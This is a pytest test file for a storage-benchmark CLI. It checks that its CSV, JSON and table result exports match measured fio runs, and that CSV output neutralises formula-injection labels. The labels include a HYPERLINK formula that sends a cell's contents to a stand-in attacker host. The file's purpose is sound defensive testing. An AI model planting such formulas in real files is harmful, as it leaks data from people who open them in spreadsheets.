"""`storbench results`: the history as CSV a spreadsheet or script can read back."""

import csv
import io
import json
import subprocess
from typing import Any

import pytest
from cli_testkit import TARGET_NAME, TINY_JOB, CliRunner, Service

HEADER = (
    "result_id,measured_at,created_at,run_id,target_id,label,storage_class,host_name,job_name,fio_version,direction,"
    "iops,bw_bytes,io_bytes,runtime_ms,lat_mean_ns,clat_p50_ns,clat_p99_ns,clat_p99_9_ns,imported,partial"
)


@pytest.fixture(scope="module")
def measured_run(service: Service, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """A finished run of a job with a name no other test uses."""
    job = {**TINY_JOB, "name": "csv-read"}
    with service.api() as api:
        run = api.post("/runs", json={"target_id": service.target["id"], "jobs": [job]}).json()
    finished = service.wait_for_run(run["id"])
    assert finished["status"] == "completed", finished
    return finished


def test_csv_rows_match_what_was_measured(measured_run: dict[str, Any], storbench: CliRunner) -> None:
    done = storbench("results", "--target", TARGET_NAME, "--measured", "--job", "csv-read", "--format", "csv")

    assert done.returncode == 0, done.stderr
    assert done.stdout.splitlines()[0] == HEADER
    reader = csv.DictReader(io.StringIO(done.stdout))
    (row,) = list(reader)
    (result,) = measured_run["results"]
    read = result["directions"]["read"]
    assert int(row["result_id"]) == result["id"] and int(row["run_id"]) == measured_run["id"]
    assert int(row["target_id"]) == measured_run["target"]["id"]
    assert (row["host_name"], row["job_name"], row["direction"]) == ("cli-host", "csv-read", "read")
    assert row["fio_version"] == result["fio_version"] and row["created_at"] == result["created_at"]
    assert row["measured_at"] == result["measured_at"]
    # Numbers are written unformatted: they read back exactly.
    assert float(row["iops"]) == read["iops"]
    assert float(row["bw_bytes"]) == read["bw_bytes"]
    assert int(row["io_bytes"]) == read["io_bytes"]
    assert int(row["runtime_ms"]) == read["runtime_ms"]
    assert float(row["lat_mean_ns"]) == read["lat_ns"]["mean_ns"]
    for column, key in (("clat_p50_ns", "50"), ("clat_p99_ns", "99"), ("clat_p99_9_ns", "99.9")):
        assert float(row[column]) == read["clat_ns"]["percentiles"][key]
    assert (row["imported"], row["partial"]) == ("false", "false")


def test_json_is_the_apis_items_and_filters_apply(measured_run: dict[str, Any], storbench: CliRunner) -> None:
    done = storbench("results", "--job", "csv-read", "--format", "json")
    imported = storbench("results", "--job", "csv-read", "--imported", "--format", "json")

    assert done.returncode == 0 and imported.returncode == 0
    assert json.loads(done.stdout) == measured_run["results"]
    assert json.loads(imported.stdout) == []


def test_table_shows_one_row_per_result_and_direction(
    measured_run: dict[str, Any], storbench: CliRunner
) -> None:
    done = storbench("results", "--job", "csv-read", "--limit", "5")

    assert done.returncode == 0, done.stderr
    header, row = done.stdout.splitlines()
    assert header.split()[:6] == ["id", "measured", "job", "host", "label", "class"]
    assert "csv-read" in row and "cli-host" in row and f"run {measured_run['id']}" in row
    assert "iB/s" in row


HOSTILE_LABELS = ['=HYPERLINK("https://evil.example/?d="&A1,"open")', "+1", "-cmd", "@SUM(A1:A9)"]


@pytest.fixture(scope="module")
def hostile_imports(service: Service, tmp_path_factory: pytest.TempPathFactory) -> list[dict[str, Any]]:
    """One fio output imported under labels a spreadsheet would run, each side slower than the last."""
    workdir = tmp_path_factory.mktemp("hostile")
    argv = ["fio", "--output-format=json", f"--directory={workdir}", "--name=csv-hostile", "--rw=read"]
    argv += ["--bs=4k", "--size=1m", "--ioengine=psync"]
    output = json.loads(subprocess.run(argv, capture_output=True, text=True, timeout=60, check=True).stdout)
    found = []
    with service.api() as api:
        for i, label in enumerate(HOSTILE_LABELS):
            # Not byte for byte the same output (that would be stored once), and fewer IOPS each time.
            output["timestamp"] += 1
            output["jobs"][0]["read"]["iops"] /= 2
            answer = api.post(
                "/results/import",
                files={"file": (f"{i}.json", json.dumps(output).encode())},
                data={"label": label},
            )
            assert answer.status_code == 201, answer.text
            found.append(answer.json()["results"][0])
    return found


def test_csv_output_neutralises_text_a_spreadsheet_would_run(
    hostile_imports: list[dict[str, Any]], storbench: CliRunner
) -> None:
    done = storbench("results", "--job", "csv-hostile", "--imported", "--format", "csv")
    assert done.returncode == 0, done.stderr
    rows = list(csv.DictReader(io.StringIO(done.stdout)))
    # A leading ' makes the cell text in Excel, LibreOffice and Sheets; the cell is quoted in the file.
    assert sorted(row["label"] for row in rows) == sorted("'" + label for label in HOSTILE_LABELS)
    for label in HOSTILE_LABELS:
        assert "\"'" + label.replace('"', '""') + '"' in done.stdout
    assert {float(row["iops"]) for row in rows} == {r["directions"]["read"]["iops"] for r in hostile_imports}


def test_an_import_is_listed_and_exported_by_when_fio_measured_it(
    hostile_imports: list[dict[str, Any]], storbench: CliRunner
) -> None:
    done = storbench("results", "--job", "csv-hostile", "--imported", "--format", "csv")

    rows = {int(row["result_id"]): row for row in csv.DictReader(io.StringIO(done.stdout))}
    for result in hostile_imports:
        # The date the output carries, not the moment it was uploaded.
        assert rows[result["id"]]["measured_at"] == result["measured_at"] != result["created_at"]


def test_compare_csv_neutralises_labels_and_keeps_negative_deltas(
    hostile_imports: list[dict[str, Any]], storbench: CliRunner
) -> None:
    done = storbench("compare", *(str(r["id"]) for r in hostile_imports), "--format", "csv")
    assert done.returncode == 0, done.stderr
    rows = list(csv.DictReader(io.StringIO(done.stdout)))
    assert {row["series"] for row in rows} == {"'" + label for label in HOSTILE_LABELS}
    deltas = [
        row["delta_pct"]
        for row in rows
        if row["figure"] == "iops" and row["is_baseline"] == "false" and row["delta_pct"]
    ]
    # Each side read half the IOPS of the one before: -50 % and below, written as plain numbers.
    assert [float(delta) for delta in deltas] == pytest.approx([-50.0, -75.0, -87.5])
    assert ",-50.0," in done.stdout
